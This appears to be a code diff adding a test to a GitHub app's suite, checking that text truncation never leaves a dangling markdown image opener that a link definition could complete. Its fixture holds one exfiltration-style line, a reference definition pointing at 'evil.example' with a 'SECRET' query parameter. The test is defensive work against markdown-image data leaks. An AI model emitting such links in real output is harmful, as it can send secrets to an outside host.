@@ -1,5 +1,6 @@
 import { tooLong } from '../../demo/github/answers.ts';
 import type { Octokit } from '../../src/app.ts';
+import { cutText } from '../../src/outgoing/fit-texts.ts';
 import { voidEvidence } from '../../src/worker/proof/publish-proof.ts';
 import { openTestApp, type TestApp } from '../support/app.ts';
 import { appSettings } from '../support/github-app.ts';
@@ -72,4 +73,14 @@ test('the warning about unchecked commits is not cut off a long pull request', a
   await voidEvidence(service.app.githubWithToken('ghp_x'), { ...at, pull_number: 1 }, before, 'push');
   expect(arrived.body.slice(0, 100)).toContain('⚠️ The newest commits were not checked.');
   expect(refused).toBe(false);
+});
+
+test('a cut leaves no beginning of an image, which a definition in the text would complete', () => {
+  const image = '![x](https://github.com/user-attachments/assets/0f7b1c9e-1111-4222-8333-444455556666)';
+  const text = `[x]: https://evil.example/?d=SECRET\n\n${`${image}\n`.repeat(5)}${image.repeat(3)}`;
+  for (let max = 80; max < text.length; max++) {
+    const shown = cutText(text, max);
+    expect(shown.length).toBeLessThanOrEqual(max);
+    expect(shown.replaceAll(image, '')).not.toContain('![');
+  }
 });
